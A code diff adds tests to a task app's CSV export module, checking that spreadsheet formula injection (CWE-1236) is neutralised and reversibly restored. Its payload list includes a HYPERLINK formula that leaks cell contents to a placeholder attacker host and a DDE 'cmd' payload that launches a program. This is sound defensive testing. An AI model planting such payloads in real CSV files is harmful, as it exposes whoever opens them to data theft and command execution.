@@ -6,6 +6,7 @@ import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { intlTimeZone, normalizeRepeat, ZonedCalendar, type Task } from '@mindflow/shared';
 import { arbitraryTask } from '@mindflow/shared/testing';
+import { neutraliseCell, restoreCell } from './csv-cells.ts';
 import { readCsvRecords } from './csv-records.ts';
 import { readStoredTasksCsv } from './stored-tasks-csv.ts';
 import { readTasksCsv, writeTasksCsvFile } from './task-csv.ts';
@@ -130,6 +131,53 @@ describe('stored-tasks-csv', () => {
       expect(unique).toHaveLength(5000);
       expect(readStoredTasksCsv(await exported(unique), { isRepeat })).toEqual(
         unique.map((t) => ({ ...t, description: t.description || null })),
+      );
+    });
+
+    it('writes no cell a spreadsheet evaluates, and reads every one back as it was (CWE-1236)', async () => {
+      const payloads = [
+        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        '+1+1',
+        '-2+3',
+        '@SUM(A1:A9)',
+        "=cmd|' /C calc'!A0",
+        "'=already protected by hand",
+        "''+two apostrophes",
+        "'just an apostrophe",
+        'plain = text - with + signs @ inside',
+      ];
+      const base = fc
+        .sample(arbitraryTask(), { numRuns: 40, seed: 11 })
+        .filter((t) => !formulaLike(t));
+      const tasks = payloads.map((p, i) => ({
+        ...base[i]!,
+        title: p,
+        description: i % 2 === 0 ? `=${p}` : `\t${p}`,
+        tags: [],
+      }));
+      const text = await exported(tasks);
+      for (const record of csvParse(text)) {
+        for (const cell of record) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+      }
+      expect(text).not.toContain('\n=');
+      const lenient = readTasksCsv(text, context);
+      expect(lenient.problems).toEqual([]);
+      expect(lenient.tasks.map((t) => t.title)).toEqual(payloads);
+      expect(lenient.tasks.map((t) => t.description)).toEqual(tasks.map((t) => t.description));
+      const quick = readStoredTasksCsv(text, { isRepeat });
+      if (quick !== null) expect(quick).toEqual(lenient.tasks);
+    });
+
+    it('neutralises and restores any text losslessly (property)', () => {
+      const start = fc.constantFrom('', "'", "''", '=', '+', '-', '@', '\t', '\r', 'a', ' ');
+      fc.assert(
+        fc.property(fc.tuple(start, start, fc.string()), ([a, b, rest]) => {
+          const cell = a + b + rest;
+          const written = neutraliseCell(cell);
+          expect(written).not.toMatch(/^[=+\-@\t\r]/);
+          expect(restoreCell(written)).toBe(cell);
+        }),
+        { numRuns: 2000 },
       );
     });
 
